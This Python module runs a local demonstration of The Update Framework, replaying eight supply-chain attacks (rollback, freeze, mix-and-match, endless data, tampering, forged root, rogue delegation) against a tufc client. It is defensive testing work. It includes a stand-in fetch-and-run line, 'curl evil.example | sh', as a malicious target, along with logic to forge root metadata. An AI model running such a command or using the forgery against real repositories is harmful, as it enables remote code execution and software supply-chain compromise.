"""``tufc demo``: TUF's attacks, replayed against a real tufc client, offline.

It builds a signed repository in a temporary folder (tufc's own repository
writer, fresh Ed25519 keys), serves it on 127.0.0.1, sets up a client that
trusts its first root, refreshes and downloads a target, and then plays the
attacker: rollback, freeze, mix-and-match, endless data, a tampered target,
a root key stolen below the threshold, a delegated role signing outside its
paths.  Every attack must be refused by the check meant for it, and every
honest step must succeed; the exit status says whether that held.
"""

from __future__ import annotations

import hashlib
import http.server
import os
import re
import sys
import tempfile
import textwrap
import threading
import time
import urllib.parse
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from typing import Callable

from ._repository import Repository

WIDTH = 78
_LONG_HEX = re.compile(r"[0-9a-f]{32,}")
ENDLESS_CAP = 64 * 1024 * 1024  # the server gives up here even if nobody stops it


# --- the HTTP server ------------------------------------------------------------


class DemoServer:
    """Serves a folder on 127.0.0.1; the attacker swaps responses in memory.

    ``overrides[path] = bytes`` replaces a file; ``endless`` holds paths
    served as their bytes followed by zeros without end.  ``requests`` logs
    every (path, status) asked for.
    """

    def __init__(self, folder: str):
        self.folder = os.path.realpath(folder)
        self.overrides: dict[str, bytes] = {}
        self.endless: set[str] = set()
        self.requests: list[tuple[str, int]] = []
        self._lock = threading.Lock()
        self._httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _handler(self))
        self._httpd.daemon_threads = True
        self._thread = threading.Thread(
            target=self._httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
        )

    @property
    def url(self) -> str:
        host, port = self._httpd.server_address[:2]
        return f"http://{host}:{port}/"

    def start(self) -> DemoServer:
        self._thread.start()
        return self

    def stop(self) -> None:
        self._httpd.shutdown()
        self._httpd.server_close()
        self._thread.join(5)

    def reset(self) -> None:
        """The attacker leaves: serve the genuine files again."""
        self.overrides.clear()
        self.endless.clear()

    def take_requests(self) -> list[tuple[str, int]]:
        with self._lock:
            taken, self.requests = self.requests, []
        return taken

    def lookup(self, path: str) -> bytes | None:
        if path in self.overrides:
            return self.overrides[path]
        full = os.path.realpath(os.path.join(self.folder, *path.split("/")))
        if not full.startswith(self.folder + os.sep) or not os.path.isfile(full):
            return None
        with open(full, "rb") as f:
            return f.read()


def _handler(server: DemoServer) -> type:
    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.0"

        def log_message(self, *args) -> None:
            pass

        def do_GET(self) -> None:  # noqa: N802 (http.server's name)
            path = urllib.parse.unquote(urllib.parse.urlsplit(self.path).path).lstrip("/")
            data = server.lookup(path)
            with server._lock:
                server.requests.append((path, 404 if data is None else 200))
            try:
                if data is None:
                    self.send_error(404)
                elif path in server.endless:
                    self._send_endless(data)
                else:
                    self.send_response(200)
                    self.send_header("Content-Length", str(len(data)))
                    self.end_headers()
                    self.wfile.write(data)
            except (BrokenPipeError, ConnectionResetError):
                pass  # the client hung up: exactly what it should do

        def _send_endless(self, data: bytes) -> None:
            self.send_response(200)
            self.end_headers()  # no Content-Length: "the rest is coming"
            self.wfile.write(data)
            sent, filler = len(data), b"\0" * 65536
            while sent < ENDLESS_CAP:
                self.wfile.write(filler)
                sent += len(filler)

    return Handler


# --- the demo -------------------------------------------------------------------


@dataclass
class Step:
    kind: str  # "honest" or "attack"
    title: str
    ok: bool
    seconds: float


class Refused(Exception):
    """An attack stopped without an exception (e.g. a target not found)."""


class Demo:
    """One repository, one client, a sequence of honest steps and attacks."""

    def __init__(self, base: str, out=None, verbose: bool = False):
        self.out = out or sys.stdout
        self.verbose = verbose
        self.repo_dir = os.path.join(base, "repository")
        self.client_dir = os.path.join(base, "client")
        self.metadata_dir = os.path.join(self.client_dir, "metadata")
        self.target_dir = os.path.join(self.client_dir, "targets")
        self.steps: list[Step] = []
        self.server: DemoServer | None = None
        self.repo: Repository | None = None

    # --- printing -----------------------------------------------------------

    def say(self, text: str = "", indent: int = 0, hang: int = 0) -> None:
        """Print wrapped text; long hex digests shortened for reading."""
        if not text:
            print(file=self.out)
            return
        text = _LONG_HEX.sub(lambda m: m.group(0)[:12] + "...", text)
        lines = textwrap.wrap(
            text, WIDTH, initial_indent=" " * indent,
            subsequent_indent=" " * (indent + hang), break_on_hyphens=False,
        )
        for line in lines:
            print(line, file=self.out)

    # --- the client -------------------------------------------------------------

    def updater(self, reference_time: datetime | None = None):
        """A fresh Updater over the client's folder, like one CLI run."""
        from .config import UpdaterConfig
        from .updater import Updater

        config = UpdaterConfig()
        if reference_time is not None:
            config.reference_time = reference_time
        return Updater(
            self.metadata_dir,
            self.server.url + "metadata/",
            self.target_dir,
            self.server.url + "targets/",
            config=config,
            bootstrap=None,
        )

    # --- bookkeeping ------------------------------------------------------------

    def honest(self, title: str, action: Callable[[], str], indent: int = 2) -> bool:
        """An honest step: it must succeed."""
        start = time.perf_counter()
        try:
            detail = action()
            ok = True
        except Exception as exc:  # an honest step must not fail: report it
            from .cli._common import explain

            detail = f"FAILED: {explain(exc)}"
            ok = False
        seconds = time.perf_counter() - start
        self.steps.append(Step("honest", title, ok, seconds))
        mark = "[ ok ]" if ok else "[FAIL]"
        self.say(f"{mark} {title}: {detail}", indent=indent, hang=7)
        self._show_requests(indent + 7)
        return ok

    def _show_requests(self, indent: int) -> None:
        """With -v: what the client asked the server for."""
        if self.verbose and self.server is not None:
            for path, status in self.server.take_requests():
                self.say(f"GET /{path} -> {status}", indent=indent)

    def heading(self, number: int, title: str, story: str) -> None:
        self.say()
        self.say(f"{number}. {title}", indent=2)
        self.say(story, indent=5)

    def attack(
        self,
        title: str,
        story: str,
        expected: tuple[str, ...],
        check: str,
        action: Callable[[], object],
    ) -> bool:
        """The attacker's move: it must be refused by the ``expected``
        exception (by class name) or end in ``Refused``."""
        self.say(f"Attack: {story}", indent=5, hang=8)
        self.server.take_requests()
        start = time.perf_counter()
        try:
            result = action()
            caught = None
        except Exception as exc:
            result, caught = None, exc
        finally:
            self.server.reset()
        seconds = time.perf_counter() - start

        from .cli._common import explain

        if caught is None:
            ok = False
            said = f"tufc accepted it ({result!r})"
        elif isinstance(caught, Refused):
            ok = "Refused" in expected
            said = str(caught)
        else:
            names = {cls.__name__ for cls in type(caught).__mro__}
            ok = bool(names.intersection(expected))
            said = f"{type(caught).__name__}: {explain(caught)}"
        self.steps.append(Step("attack", title, ok, seconds))
        if ok:
            self.say(f"[REFUSED] by the {check}.", indent=5, hang=10)
        else:
            self.say(f"[NOT REFUSED AS EXPECTED] expected the {check} "
                     f"({', '.join(expected)}).", indent=5, hang=10)
        self.say(f"tufc said: {said}", indent=5, hang=11)
        self._show_requests(7)
        return ok

    # --- the story ------------------------------------------------------------

    def run(self) -> int:
        from . import BACKEND

        begin = time.perf_counter()
        self.say("tufc demo: The Update Framework under attack, on this machine, offline.")
        self.say()
        self.say("A TUF repository signs metadata describing every file it serves; "
                 "a TUF client checks that metadata before it trusts a byte. Below, "
                 "a client downloads honestly, then an attacker who controls the "
                 "mirror (and, later, a few keys) tries eight ways to fool it.")
        self.say()
        self.say("Setting up")
        start = time.perf_counter()
        self.repo = repo = Repository(self.repo_dir, root_keys=3, root_threshold=2)
        repo.delegate("projects", ["projects/*"])
        repo.add_target("README.txt", b"Welcome to the demo repository.\n")
        repo.add_target(
            "projects/app-1.0.tar.gz", _payload(b"app-1.0", 20000), role="projects",
            custom={"description": "the application, version 1.0"},
        )
        repo.publish()
        self.server = DemoServer(self.repo_dir).start()
        setup_seconds = time.perf_counter() - start
        self.steps.append(Step("setup", "generate keys, sign, serve", True, setup_seconds))
        self.say(f"repository  {self.repo_dir}", indent=2, hang=12)
        self.say(f"served at   {self.server.url} (127.0.0.1 only)", indent=2, hang=12)
        self.say("keys        root: 3 Ed25519 keys, any 2 must sign; timestamp, "
                 "snapshot, targets: 1 key each", indent=2, hang=12)
        self.say("delegation  role 'projects' may sign only for projects/*",
                 indent=2, hang=12)
        self.say(f"client      {self.client_dir} (tufc, {BACKEND} core)", indent=2, hang=12)
        try:
            self._story()
        finally:
            self.server.stop()
        total = time.perf_counter() - begin
        return self._summary(total)

    def _story(self) -> None:
        repo, server = self.repo, self.server
        self.say()
        self.say("Honest use")
        ok = self.honest("trust the root shipped with the app", self._trust_root)
        ok = self.honest("refresh", self._refresh) and ok
        ok = self.honest("download projects/app-1.0.tar.gz",
                         lambda: self._download("projects/app-1.0.tar.gz")) and ok
        ok = self.honest("download it again",
                         lambda: self._download("projects/app-1.0.tar.gz")) and ok
        if not ok:
            self.say("The honest steps failed; attacks would prove nothing.", indent=2)
            return

        self.say()
        self.say("Attacks (the mirror turns honest again after each one)")

        # 1. rollback
        self.heading(1, "Rollback attack",
                     "Going back to older files with known holes.")
        old_timestamp = repo.current("metadata/timestamp.json")
        repo.renew_timestamp()
        self.honest("the repository renews its timestamp (version 2); client refresh",
                    self._refresh, indent=5)

        def rollback():
            server.overrides["metadata/timestamp.json"] = old_timestamp
            self.updater().refresh()

        self.attack(
            "Rollback attack",
            "the mirror serves yesterday's timestamp, version 1.",
            ("BadVersionNumberError",), "rollback check (versions never go down)",
            rollback,
        )

        # 2. freeze
        later = datetime.now(timezone.utc) + timedelta(days=2)
        self.heading(2, "Freeze attack",
                     "Keeping the client on old files by never showing it new metadata.")
        self.attack(
            "Freeze attack",
            "two days later the mirror still serves the same timestamp "
            f"(the client's clock: {later:%Y-%m-%d %H:%M} UTC).",
            ("ExpiredMetadataError",), "expiry check (timestamps live 1 day)",
            lambda: self.updater(reference_time=later).refresh(),
        )

        # 3. mix and match
        self.heading(3, "Mix-and-match attack",
                     "Combining metadata files that were never current together.")
        old_targets = repo.current("metadata/1.targets.json")
        repo.add_target("README.txt", b"Welcome to the demo repository, release 2.\n")
        repo.publish()
        self.say("(the repository publishes targets version 2 and a new snapshot)",
                 indent=5)

        def mix_and_match():
            server.overrides["metadata/2.targets.json"] = old_targets
            self.updater().refresh()

        self.attack(
            "Mix-and-match attack",
            "the mirror serves the new snapshot with the old targets file in "
            "place of version 2.",
            ("LengthOrHashMismatchError", "BadVersionNumberError"),
            "snapshot check (the snapshot pins each targets file's version, "
            "length and hash)",
            mix_and_match,
        )
        self.honest("the genuine files: client refresh", self._refresh, indent=5)

        # 4. endless data: metadata
        self.heading(4, "Endless data attack (metadata)",
                     "Filling the client's memory or disk.")

        def endless_timestamp():
            server.endless.add("metadata/timestamp.json")
            self.updater().refresh()

        self.attack(
            "Endless data attack (metadata)",
            "the mirror answers timestamp.json with a stream that never ends.",
            ("DownloadLengthMismatchError",),
            "length limit (a timestamp may be at most 16384 bytes)",
            endless_timestamp,
        )

        # 5. endless data: target
        self.heading(5, "Endless data attack (target)",
                     "The same, with a file the client downloads.")
        readme = repo.target_file_name("README.txt")

        def endless_target():
            server.endless.add(readme)
            return self._download("README.txt")

        self.attack(
            "Endless data attack (target)",
            "the mirror answers README.txt with a stream that never ends.",
            ("DownloadLengthMismatchError",),
            "length check (the signed metadata says how long the file is)",
            endless_target,
        )

        # 6. tampered target
        self.heading(6, "Arbitrary software installation",
                     "Serving a file the repository never signed.")

        def tampered():
            genuine = repo.target_data["README.txt"]
            server.overrides[readme] = genuine.replace(b"Welcome", b"Malware")
            return self._download("README.txt")

        self.attack(
            "Arbitrary software installation",
            "the mirror serves a tampered README.txt of the right length.",
            ("LengthOrHashMismatchError",),
            "hash check (the signed sha256 does not match; nothing is saved)",
            tampered,
        )

        # 7. root key compromised below threshold
        self.heading(7, "Key compromise below the threshold",
                     "Taking over the repository with one stolen root key.")

        def stolen_root_key():
            server.overrides["metadata/2.root.json"] = self._forged_root()
            self.updater().refresh()

        self.attack(
            "Key compromise below the threshold",
            "with ONE of the three root keys (2 are required) the attacker "
            "signs a new root that hands every role to keys of its own.",
            ("UnsignedMetadataError",),
            "signature threshold check (a new root needs 2 signatures from "
            "the keys of the trusted root)",
            stolen_root_key,
        )

        # 8. delegated role signs outside its paths
        self.heading(8, "Compromised delegated role",
                     "Using a key trusted for some files to sign others.")
        repo.add_target("tools/install.sh", b"curl evil.example | sh\n", role="projects")
        repo.publish()
        self.say("(the 'projects' key is stolen; the attacker lists tools/install.sh "
                 "in role 'projects' and the repository publishes it as usual)",
                 indent=5)

        def outside_paths():
            updater = self.updater()
            updater.refresh()
            info = updater.get_targetinfo("tools/install.sh")
            if info is None:
                raise Refused(
                    "tools/install.sh: not found (no role trusted for that path lists it)"
                )
            return info

        self.attack(
            "Compromised delegated role",
            "the client is asked to install tools/install.sh.",
            ("Refused",),
            "delegation path check ('projects' is trusted only for projects/*)",
            outside_paths,
        )
        repo.remove_target("tools/install.sh", role="projects")

        # an honest release still works
        self.say()
        self.say("After the attacks")
        repo.add_target("projects/app-1.1.tar.gz", _payload(b"app-1.1", 24000),
                        role="projects")
        repo.publish()
        self.honest("the repository releases app 1.1; client refresh", self._refresh)
        self.honest("download projects/app-1.1.tar.gz",
                    lambda: self._download("projects/app-1.1.tar.gz"))

    # --- honest actions ---------------------------------------------------------

    def _trust_root(self) -> str:
        from .cli._location import write_file
        from .cli._trust import RootInfo

        data = self.repo.current("metadata/1.root.json")
        info = RootInfo(data)
        info.check_self_signed()
        write_file(os.path.join(self.metadata_dir, "root.json"), data)
        role = info.root.roles["root"]
        signed = len(info.signed_by(role.keyids, role.threshold).verified)
        return (f"root v{info.root.version}, signed by {signed} of its "
                f"{len(role.keyids)} root keys (threshold {role.threshold})")

    def _refresh(self) -> str:
        self.server.take_requests()
        self.updater().refresh()
        asked = []
        for path, status in self.server.take_requests():
            name = path.rpartition("/")[2]
            if status != 200:
                name += f" ({status}: none yet)" if name.endswith(".root.json") else f" ({status})"
            asked.append(name)
        return f"verified; asked for {', '.join(asked)}"

    def _download(self, path: str) -> str:
        updater = self.updater()
        info = updater.get_targetinfo(path)
        if info is None:
            raise LookupError(f"{path}: not found")
        cached = updater.find_cached_target(info)
        if cached is not None:
            return "already here and verified: no download"
        updater.download_target(info)
        return f"{info.length} bytes, sha256 verified"

    def _forged_root(self) -> bytes:
        """Root v2 by an attacker holding one of the three root keys."""
        from .metadata import Metadata
        from .signer import Ed25519Signer

        stolen = self.repo.signers["root"][0]
        forged = Metadata.from_bytes(self.repo.current("metadata/1.root.json"))
        root = forged.signed
        attacker = [Ed25519Signer.generate() for _ in range(2)]
        for role_name, role in root.roles.items():
            for keyid in list(role.keyids):
                root.revoke_key(keyid, role_name)
            for signer in attacker:
                root.add_key(signer.public_key, role_name)
        root.version = 2
        forged.signatures.clear()
        for signer in [stolen, *attacker]:
            forged.sign(signer, append=True)
        return forged.to_bytes()

    # --- summary ----------------------------------------------------------------

    def _summary(self, total: float) -> int:
        attacks = [s for s in self.steps if s.kind == "attack"]
        honest = [s for s in self.steps if s.kind == "honest"]
        self.say()
        self.say("Timings")
        for step in self.steps:
            self.say(f"{step.title[:56]:56} {step.seconds * 1000:8.1f} ms", indent=2)
        self.say(f"{'total':56} {total * 1000:8.1f} ms", indent=2)
        self.say()
        refused = sum(s.ok for s in attacks)
        fine = sum(s.ok for s in honest)
        passed = refused == len(attacks) and fine == len(honest) and len(attacks) == 8
        verdict = "OK" if passed else "FAILED"
        self.say(f"{verdict}: {refused} of {len(attacks)} attacks refused, "
                 f"{fine} of {len(honest)} honest steps succeeded.")
        return 0 if passed else 1


def _payload(seed: bytes, size: int) -> bytes:
    """Deterministic bytes standing in for a release archive."""
    out = bytearray()
    block = seed
    while len(out) < size:
        block = hashlib.sha256(block).digest()
        out += block
    return bytes(out[:size])


def _no_proxy_for_localhost() -> None:
    # The demo talks to 127.0.0.1 only; a proxy from the environment must
    # not see (or break) that traffic.
    if any(os.environ.get(v) for v in ("http_proxy", "HTTP_PROXY", "all_proxy", "ALL_PROXY")):
        for var in ("no_proxy", "NO_PROXY"):
            current = os.environ.get(var, "")
            os.environ[var] = ",".join(filter(None, [current, "127.0.0.1", "localhost"]))


def run_demo(verbose: bool = False, out=None) -> int:
    """Run the whole demo in a temporary folder; 0 only if every check held."""
    _no_proxy_for_localhost()
    with tempfile.TemporaryDirectory(prefix="tufc-demo-") as base:
        return Demo(base, out=out, verbose=verbose).run()
